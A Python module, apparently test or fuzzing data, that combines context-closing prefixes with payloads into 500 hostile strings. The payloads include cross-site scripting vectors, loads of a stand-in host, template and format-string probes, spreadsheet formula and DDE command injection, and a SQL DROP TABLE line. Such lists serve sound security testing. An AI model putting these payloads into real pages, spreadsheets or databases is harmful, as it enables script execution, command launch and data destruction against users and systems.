"""500 texts that would do something if a page, a sheet or a template took them for more than text:
what closes the place it may stand in, before what would come alive there."""

CLOSING = (
    "", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>",
    "</td></tr></table>", "</option></select>", "<!--", "`", "\\", "&quot;>", "%22%3E", "\u2028",
    "</svg></style>", "\u202e",
)  # fmt: skip
ALIVE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=data:text/html,alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//ejemplo.invalid/>",
    "<meta http-equiv=refresh content=0;url=//ejemplo.invalid>",
    "<link rel=stylesheet href=//ejemplo.invalid>",
    "<form action=//ejemplo.invalid><button>",
    "<style>@import '//ejemplo.invalid'</style>",
    " onmouseover=alert(1) x=",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%=7*7%>",
    "{0}{name}%s%n",
    '=HYPERLINK("http://ejemplo.invalid","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "'; DROP TABLE unit; --",
)
HOSTILE = tuple(closing + alive for alive in ALIVE for closing in CLOSING)
assert len(set(HOSTILE)) == 500
